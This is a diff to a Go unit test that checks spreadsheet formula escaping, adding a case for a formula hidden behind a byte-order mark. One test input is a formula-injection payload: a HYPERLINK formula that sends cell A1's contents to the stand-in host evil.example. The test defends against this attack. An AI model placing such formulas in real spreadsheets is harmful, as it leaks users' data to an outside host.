@@ -31,6 +31,7 @@ func TestFormulasAreEscaped(t *testing.T) {
 	for _, tt := range []struct{ cell, want string }{
 		{"=1+1", "'=1+1"},
 		{"=", "'="},
+		{"\ufeff=1+1", "'\ufeff=1+1"},
 		{`=HYPERLINK("http://evil.example?x="&A1,"a")`, `"'=HYPERLINK(""http://evil.example?x=""&A1,""a"")"`},
 		{"@SUM(A1)", "'@SUM(A1)"},
 		{"+1", "'+1"},
